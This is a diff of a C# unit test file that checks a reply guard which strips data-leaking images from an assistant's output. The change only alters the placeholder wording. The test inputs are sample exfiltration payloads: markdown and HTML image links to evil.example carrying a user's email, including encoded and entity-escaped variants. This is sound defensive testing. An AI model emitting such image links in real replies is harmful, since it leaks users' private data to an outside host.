@@ -28,13 +28,13 @@ public sealed class ReplyGuardTests
     }
 
     [Theory]
-    [InlineData("Markets rallied today. ![logo](https://evil.example/p.png?d=alice.w@corp.example)", "Markets rallied today. [image removed: logo]")]
-    [InlineData("Markets rallied. ![](https://evil.example/p.png?d=YWxpY2Uud0Bjb3JwLmV4YW1wbGU=)", "Markets rallied. [image removed]")]
-    [InlineData("Markets rallied. ![logo](<https://evil.example/p.png?d=alice.w@corp.example> \"Logo\")!", "Markets rallied. [image removed: logo]!")]
+    [InlineData("Markets rallied today. ![logo](https://evil.example/p.png?d=alice.w@corp.example)", "Markets rallied today. (image removed: logo)")]
+    [InlineData("Markets rallied. ![](https://evil.example/p.png?d=YWxpY2Uud0Bjb3JwLmV4YW1wbGU=)", "Markets rallied. (image removed)")]
+    [InlineData("Markets rallied. ![logo](<https://evil.example/p.png?d=alice.w@corp.example> \"Logo\")!", "Markets rallied. (image removed: logo)!")]
     [InlineData("Markets rallied. ![logo][1]\n\n[1]: https://evil.example/p.png?d=alice.w@corp.example\n", "Markets rallied. ![logo][1]\n\n[1]: #image-removed\n")]
     [InlineData("Markets rallied. <img src=\"https://evil.example/p.png?d=alice.w@corp.example\" alt=\"x\">", "Markets rallied. <img src=\"\" alt=\"x\">")]
-    [InlineData("Markets rallied. <IMG SRC=https://evil.example/p.png?d=alice.w@corp.example>", "Markets rallied. <IMG SRC=>")]
-    [InlineData("Markets rallied. ![logo](//evil.example/p.png?d=alice.w@corp.example)", "Markets rallied. [image removed: logo]")]
+    [InlineData("Markets rallied. <IMG SRC=https://evil.example/p.png?d=alice.w@corp.example>", "Markets rallied. <IMG SRC=\"\">")]
+    [InlineData("Markets rallied. ![logo](//evil.example/p.png?d=alice.w@corp.example)", "Markets rallied. (image removed: logo)")]
     public async Task ImageCarryingTheUsersDataOut_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
@@ -45,8 +45,8 @@ public sealed class ReplyGuardTests
 
     /// <summary>How a renderer reads a URL that a plain reading does not: entities and escapes decoded, other attributes that load.</summary>
     [Theory]
-    [InlineData("x ![a](https&#58;//evil.example/p.png?d=alice.w@corp.example) y", "x [image removed: a] y")]
-    [InlineData("x ![a](https\\://evil.example/p.png?d=alice.w@corp.example) y", "x [image removed: a] y")]
+    [InlineData("x ![a](https&#58;//evil.example/p.png?d=alice.w@corp.example) y", "x (image removed: a) y")]
+    [InlineData("x ![a](https\\://evil.example/p.png?d=alice.w@corp.example) y", "x (image removed: a) y")]
     [InlineData("x <img src=\"&#x68;ttps://evil.example/p.png?d=alice.w@corp.example\"> y", "x <img src=\"\"> y")]
     [InlineData("x <img srcset=\"https://cdn.corp.example/a/alice.png 1x, https://evil.example/p.png?d=alice.w@corp.example 2x\"> y", "x <img srcset=\"\"> y")]
     [InlineData("x <table background=\"https://evil.example/p.png?d=alice.w@corp.example\"> y", "x <table background=\"\"> y")]
@@ -115,7 +115,7 @@ public sealed class ReplyGuardTests
         shown.Add(await stream.CompleteAsync());
 
         shown[0].Should().Be("Markets ", "text before any construct is passed on as it comes");
-        string.Concat(shown).Should().Be("Markets rallied. [image removed: logo] Bye.\nMore <img src=\"\">\n[1]: #image-removed");
+        string.Concat(shown).Should().Be("Markets rallied. (image removed: logo) Bye.\nMore <img src=\"\">\n[1]: #image-removed");
     }
 
     [Fact]
